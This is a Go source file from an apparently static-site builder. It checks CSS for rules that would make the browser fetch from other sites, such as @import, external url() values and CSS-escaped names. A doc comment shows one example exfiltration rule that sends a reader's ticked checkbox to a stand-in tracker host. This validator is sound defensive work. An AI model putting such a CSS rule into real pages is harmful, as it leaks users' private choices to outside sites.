package site

import (
	"strings"

	"github.com/tdewolff/parse/v2"
	"github.com/tdewolff/parse/v2/css"

	"github.com/liftwell/liftwell/internal/srcerr"
)

// checkCSSURLs adds an error at each place of the style sheet src (the
// file path) that could make the browser fetch something from another
// site: an @import, a url() or image-set() to anything but a path of the
// site itself, and names written with CSS escapes (u\72l(), which a
// simple look for "url(" would miss). One rule such as
// input:checked{background:url(https://tracker.example/c?bladder_bowel=yes)}
// would tell another site what the reader ticked.
func checkCSSURLs(path string, src []byte, errs *srcerr.List) {
	lex := css.NewLexer(parse.NewInputBytes(src))
	off := 0
	inURLFunc := 0 // nesting of url(, image-set( and the like being read
	bad := func(msg string) {
		line, col := srcerr.LineCol(src, off)
		errs.AddAt(path, line, col, msg)
	}
	for {
		tt, data := lex.Next()
		if tt == css.ErrorToken {
			return
		}
		switch tt {
		case css.AtKeywordToken, css.FunctionToken, css.IdentToken:
			if strings.Contains(string(data), `\`) {
				bad("a CSS name written with escapes (" + srcerr.Quote(string(data)) + "): write it plainly")
			}
		}
		switch tt {
		case css.AtKeywordToken:
			if strings.EqualFold(string(data), "@import") {
				bad("@import is not allowed: the builder joins the static CSS files into one style sheet")
			}
		case css.FunctionToken:
			name := strings.ToLower(strings.TrimSuffix(string(data), "("))
			if name == "url" || name == "src" || strings.HasSuffix(name, "image-set") || name == "image" || name == "cross-fade" || name == "element" {
				inURLFunc++
			} else if inURLFunc > 0 {
				inURLFunc++
			}
		case css.RightParenthesisToken:
			if inURLFunc > 0 {
				inURLFunc--
			}
		case css.StringToken:
			if inURLFunc > 0 {
				if u := strings.Trim(string(data), `"'`); !sameSiteURL(u) {
					bad("url " + srcerr.Quote(u) + ": a style sheet may only refer to files of the site, by path")
				}
			}
		case css.URLToken:
			if u := cssURLValue(string(data)); !sameSiteURL(u) {
				bad("url(" + srcerr.Quote(u) + "): a style sheet may only refer to files of the site, by path")
			}
		case css.BadURLToken:
			bad("malformed url(): " + srcerr.Quote(string(data)))
		}
		off += len(data)
	}
}

// cssURLValue returns the address of a url() token.
func cssURLValue(tok string) string {
	i := strings.IndexByte(tok, '(')
	s := strings.TrimSpace(strings.TrimSuffix(tok[i+1:], ")"))
	if len(s) >= 2 && (s[0] == '"' || s[0] == '\'') && s[len(s)-1] == s[0] {
		s = s[1 : len(s)-1]
	}
	return strings.TrimSpace(s)
}

// sameSiteURL reports whether u is a path (or #fragment) of the site: no
// scheme, no host, no escapes that could hide one.
func sameSiteURL(u string) bool {
	if u == "" || strings.ContainsAny(u, `\:`) || strings.HasPrefix(u, "//") {
		return false
	}
	return true
}
